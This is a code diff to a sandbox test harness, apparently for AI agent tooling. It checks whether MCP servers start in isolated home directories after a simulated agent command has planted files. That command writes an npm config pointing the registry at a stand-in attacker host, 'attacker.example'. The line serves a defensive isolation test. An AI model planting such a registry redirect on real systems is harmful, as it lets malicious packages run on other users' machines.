@@ -14,7 +14,8 @@
  * Mode `mcp` (#36) starts the test MCP servers through the sandbox instead (`<command>` is the path of
  * tests/support/mcp/servers.mjs): facts, whose probe tool's answer it prints, and one that hangs, which
  * must be stopped; after closing both it prints `::left <n>`, how many of their processes still run.
- * They start, as on a checkout that holds a model's files, in a copy of the workspace's HEAD (stdioServerDir).
+ * They start, as on a checkout that holds a model's files, in a copy of the workspace's HEAD (stdioServerDir), after a
+ * command of the agent's has planted files in the tool user's home (`::planted`); `::homes` counts the servers' own homes.
  */
 import { join } from 'node:path';
 import { secureCloudCredentials } from '../../../src/sandbox/cloud-credentials';
@@ -60,6 +61,12 @@ if (mode === 'mcp') {
     tempDir: temp,
     log: quiet,
   });
+  // The agent's command runs first, as an earlier attempt or a chained task's would, and plants files in its home.
+  const planted = await runner.runner.run('echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"', {
+    cwd: workspace,
+    timeoutMs: 20_000,
+    maxOutputBytes: 10_000,
+  });
   const session = await startMcpServers({
     servers: Object.entries(servers),
     runner: runner.runner,
@@ -71,7 +78,12 @@ if (mode === 'mcp') {
   });
   process.stdout.write(`${await session.tools.find((t) => t.spec.name === 'mcp__facts__probe')!.run({})}\n`);
   for (const n of session.notes) process.stdout.write(`::note ${n}\n`);
+  process.stdout.write(`::planted ${planted.exitCode} ${planted.output.trim()}\n`);
+  const { readdirSync } = await import('node:fs');
+  const homes = () => readdirSync(join(temp, 'crew-sandbox', 'homes'));
+  process.stdout.write(`::homes ${homes().length}\n`);
   await session.close();
+  process.stdout.write(`::homes-after ${homes().length}\n`);
   await reviewed.dispose();
   // Stopping through sudo takes a moment (`sudo kill`): look for up to 10 s. This probe's own arguments name the file too.
   const { execFileSync } = await import('node:child_process');
